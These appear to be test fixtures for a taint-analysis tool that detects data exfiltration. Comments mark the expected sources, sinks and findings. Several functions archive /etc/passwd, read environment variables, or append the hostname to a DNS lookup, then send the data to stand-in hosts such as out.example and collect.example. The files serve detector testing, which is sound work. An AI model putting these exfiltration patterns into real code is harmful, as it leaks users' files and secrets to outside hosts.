"""What is in a file is not in its name, nor in a text that tells the name."""
import os
import zipfile

import requests

U = "https://out.example/"


def told(name):
    archive = zipfile.ZipFile(name, "w")
    archive.write("/etc/passwd")
    requests.post(U, data={"message": "made %s" % name})  #~ ok
    requests.post(U, data={"message": f"made {name}"})  #~ ok
    requests.post(U, data={"message": "made " + name})  #~ ok


def sent(name):
    archive = zipfile.ZipFile(name, "w")
    archive.write("/etc/passwd")  #~ source(FILE) n1
    requests.post(U, files={"archive": open(name, "rb")})  #~ sink(egress.http) n1, finding(traced) n1


def secret_in_the_name():
    name = "/tmp/" + os.getenv("A")  #~ source(ENVIRONMENT) n2
    requests.post(U, data="made " + name)  #~ sink(egress.http) n2, finding(traced) n2
# --- path: offered.py ---
# A module inside of a package defines what the package offers; a hint that only checkers of types can read says nothing.
import os
import socket
from typing import TYPE_CHECKING

import urllib3
import requests.sessions
from requests.api import post

if TYPE_CHECKING:
    from urllib3.poolmanager import PoolManager, ProxyManager


class Transport:
    if TYPE_CHECKING:
        pool: "Union[PoolManager, ProxyManager]"

    def __init__(self):
        self.pool = self.make()

    def make(self: "Self") -> "Union[PoolManager, ProxyManager]":
        return urllib3.PoolManager()

    def send(self, body):
        self.pool.request("POST", "https://collect.example/", body=body)  #~ sink(egress.http) of1, finding(traced) of1


class Hinted(Transport):
    def __init__(self):
        self.session = self.open()

    def open(self) -> "NowhereBound":
        return requests.sessions.Session()

    def send(self, body):
        self.session.post("https://collect.example/", data=body)  #~ sink(egress.http) of2, finding(traced) of2


def offered():
    Transport().send(os.environ["A"])  #~ source(ENVIRONMENT) of1
    Hinted().send(os.environ["B"])  #~ source(ENVIRONMENT) of2
    post("https://collect.example/", data=os.environ["C"])  #~ source(ENVIRONMENT) of3, sink(egress.http) of3, finding(traced) of3
    requests.nothing.fetch(os.environ["D"])  #~ ok


def own_address():
    # The name of a machine is looked up; nothing is put into it.
    return socket.gethostbyname(socket.gethostname())  #~ ok


def told_address():
    return socket.gethostbyname(socket.gethostname() + ".collect.example")  #~ source(DEVICE) of4, sink(egress.dns) of4, finding(dns-exfiltration, traced) of4


# --- path: by_text.py ---
# An attribute by a name that is written out is that attribute, whether it is called or not.
import os
import sys

import requests


class Keeper:
    def __init__(self):
        self.kept = os.environ["KEPT"]  #~ source(ENVIRONMENT) t3


def of_modules():
    requests.post("https://collector.example/t1", data=getattr(sys, "argv", None))  #~ source(INPUT) t1, sink(egress.http) t1, finding(traced) t1
    requests.post("https://collector.example/t2", data=getattr(os, "environ", {}))  #~ source(ENVIRONMENT) t2, sink(egress.http) t2, finding(traced) t2
    requests.post("https://collector.example/t4", data=getattr(sys, "byteorder", None))  #~ ok


def of_objects(keeper: Keeper):
    requests.post("https://collector.example/t3", data=getattr(keeper, "kept", ""))  #~ sink(egress.http) t3, finding(traced) t3
    requests.post("https://collector.example/t5", data=getattr(keeper, "other", ""))  #~ ok
